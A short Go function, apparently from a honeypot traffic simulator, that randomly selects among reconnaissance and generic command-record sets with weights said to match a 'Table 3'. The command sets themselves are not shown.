func genericCommands(rng *rand.Rand) []honeypot.CommandRecord {
	// Weighted toward recon, matching Table 3's head.
	switch r := rng.Float64(); {
	case r < 0.40:
		return reconCommands
	case r < 0.60:
		return reconShort
	default:
		return genericTemplates[2+rng.Intn(len(genericTemplates)-2)]
	}
}
